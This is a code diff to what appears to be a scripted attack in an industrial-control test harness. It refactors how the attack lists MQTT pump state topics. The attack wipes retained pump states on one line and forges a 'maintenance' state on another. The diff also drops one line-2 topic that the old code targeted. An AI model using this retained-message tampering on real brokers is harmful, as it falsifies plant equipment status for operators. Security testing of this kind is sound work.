@@ -1,9 +1,8 @@
 import { type Attack, asStranger, pause } from './attack-scene';
 
 /** The state of every pump is kept by the broker for who comes later. */
-const topics = ['line-1', 'line-2'].flatMap((line) =>
-  [1, 2, 3].map((pump) => `plant/${line}/pump-${pump}/state`),
-);
+const cleared = ['plant/line-1/pump-1/state', 'plant/line-1/pump-2/state', 'plant/line-1/pump-3/state'];
+const changed = ['plant/line-2/pump-1/state', 'plant/line-2/pump-3/state'];
 const forged = Buffer.from('{"state":"maintenance"}');
 const pauseMs = 1500;
 const holdMs = 10_000;
@@ -15,9 +14,8 @@ export const retainedTampering: Attack = (scene) =>
     client.on('message', (topic, payload) => {
       if (payload.length > 0 && !payload.equals(forged)) kept.set(topic, payload);
     });
-    await client.subscribeAsync(topics, { qos: 1 });
+    await client.subscribeAsync([...cleared, ...changed], { qos: 1 });
     await pause(scene, pauseMs);
-    const [cleared, changed] = [topics.slice(0, 3), topics.slice(3)];
     try {
       for (const topic of cleared) {
         await client.publishAsync(topic, '', { qos: 1, retain: true });
